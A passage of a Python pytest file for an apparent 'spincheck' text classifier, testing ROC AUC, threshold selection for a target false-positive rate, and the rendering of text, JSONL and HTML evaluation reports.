    pytest.importorskip("sklearn")
    from sklearn.metrics import roc_auc_score

    rng = np.random.default_rng(seed)
    y = rng.integers(0, 2, 300)
    prob = np.round(np.clip(rng.normal(0.3 + 0.4 * y, 0.25), 0, 1), 1)  # rounded: many ties
    assert metrics_at(y, prob, 0.5)["roc_auc"] == round(roc_auc_score(y, prob), 4)


def test_roc_auc_small_cases():
    assert roc_auc(np.array([0, 0, 1, 1]), np.array([0.1, 0.4, 0.35, 0.8])) == 0.75
    assert roc_auc(np.array([0, 1]), np.array([0.5, 0.5])) == 0.5
    assert roc_auc(np.array([1, 1]), np.array([0.2, 0.9])) is None


@pytest.mark.parametrize("fpr", [0.05, 0.1, 0.25, 0.5])
def test_threshold_for_fpr_is_the_lowest_that_keeps_the_rate(fpr):
    clean = np.random.default_rng(3).random(40)
    threshold = threshold_for_fpr(clean, fpr)
    flagged = int(np.sum(clean >= threshold))
    assert flagged <= fpr * clean.size
    # the next clean paragraph down would be flagged too, and that would break the rate
    next_down = np.max(clean[clean < threshold])
    assert int(np.sum(clean >= next_down)) > fpr * clean.size


def test_threshold_for_fpr_at_the_edges_of_float_and_of_the_rate():
    """0.29 × 100 is 28.999999999999996 in floating point: 29 clean paragraphs may be flagged,
    not 28. A rate of 1 may flag them all."""
    clean = np.arange(100) / 100
    assert int(np.sum(clean >= threshold_for_fpr(clean, 0.29))) == 29
    assert threshold_for_fpr(np.array([0.2, 0.4, 0.6]), 1.0) == 0.2


def test_threshold_for_fpr_needs_clean_probabilities():
    with pytest.raises(ValueError, match="no clean probabilities"):
        threshold_for_fpr(np.array([]), 0.01)


def test_render_evaluation_lists_every_number():
    text = render_evaluation(
        {
            "source": "dev.jsonl",
            "threshold": 0.9,
            "paragraphs": 12,
            "scored": 10,
            "scored_spun": 5,
            "scored_clean": 5,
            "not_scored": 2,
            "not_scored_by_reason": {"too short": 2},
            "metrics": metrics_at(np.array([1] * 5 + [0] * 5), np.array([0.95] * 4 + [0.1] + [0.1] * 4 + [0.92]), 0.9),
        }
    )
    assert "not scored   2 (too short 2)" in text
    assert "precision    0.8000" in text and "recall       0.8000" in text
    assert "confusion    tp 4  fp 1  fn 1  tn 4" in text
    assert "at most" not in text  # only with --at-fpr


def test_render_evaluation_adds_the_operating_point_asked_for():
    y, prob = np.array([1] * 5 + [0] * 5), np.array([0.95] * 4 + [0.1] + [0.1] * 4 + [0.92])
    report = {
        "source": "dev.jsonl",
        "threshold": 0.9,
        "paragraphs": 10,
        "scored": 10,
        "scored_spun": 5,
        "scored_clean": 5,
        "not_scored": 0,
        "not_scored_by_reason": {},
        "metrics": metrics_at(y, prob, 0.9),
        "at_fpr": {"target_fpr": 0.01, "threshold": 0.920001, "metrics": metrics_at(y, prob, 0.920001)},
    }
    text = render_evaluation(report)
    head, _, tail = text.partition("at most 1 % of the clean paragraphs flagged: threshold 0.920001\n")
    assert "confusion    tp 4  fp 1  fn 1  tn 4" in head
    assert "confusion    tp 4  fp 0  fn 1  tn 5" in tail and "precision    1.0000" in tail


def test_text_keeps_one_line_per_document_whatever_its_name():
    """A JSONL id may hold a newline or a tab; the text format escapes it, the others keep it."""
    chunk = Chunk("page.jsonl:a\nb\tc", 0, "", True, "a\nb\tc")
    text = report("text", [(chunk, [(0, 40, CLEAN)])])
    assert text == "page.jsonl:a\\nb\\tc: 1 paragraph, 1 scored, 0 flagged, highest probability 0.120\n"
    assert json.loads(report("jsonl", [(chunk, [(0, 40, CLEAN)])]))["source"] == "page.jsonl:a\nb\tc"


def test_html_page_with_nothing_scored_gives_no_highest_probability():
    # not 0.000, which reads as a paragraph scored clean
    unscored = Document((Paragraph(0, 0, 4, "Hi.", Result(0.0, None, "too short", (), 1)),), threshold=0.9)
    page = render_html(unscored, source="x", model_version="1", threshold=0.9, spincheck_version="1")
    assert "Nothing to score" in page and "<dt>Highest probability</dt><dd>-</dd>" in page


def test_html_legend_does_not_say_every_flagged_paragraph_is_at_the_threshold():
    """The legend said 'flagged (at or above the threshold)' and dotted marks were 'in a paragraph
    below the threshold', beside a paragraph flagged with its document, under the threshold."""
    text = "The highest official stated it plainly."
    evidence = (Evidence("highest", 4, 11, "top", 0.8),)
    doc = Document(
        (
            Paragraph(0, 0, len(text), text, Result(0.95, True, None, evidence, 14)),
            Paragraph(1, len(text) + 2, 2 * len(text) + 2, text, Result(0.85, True, None, evidence, 14, True)),
        ),
        threshold=0.9,
    )
    page = render_html(doc, source="x", model_version="1", threshold=0.9, spincheck_version="1")
    assert "flagged (at or above the threshold, or with its document)" in page
    assert "below the threshold" not in page and "weaker evidence in a paragraph not flagged" in page
    # and the paragraph under the threshold says why it is flagged
    labels = re.findall(r'<span class="prob">([^<]*)</span>', page)
    assert labels == ["0.950 flagged", "0.850 flagged with its document"]
    assert "<dt>Flagged</dt><dd>2</dd>" in page and "Likely spun: 2 of 2 scored paragraphs flagged" in page
    alone = Document(doc.paragraphs[:1], threshold=0.9)  # no paragraph flagged by its document
    page = render_html(alone, source="x", model_version="1", threshold=0.9, spincheck_version="1")
    assert "flagged (at or above the threshold)</span>" in page
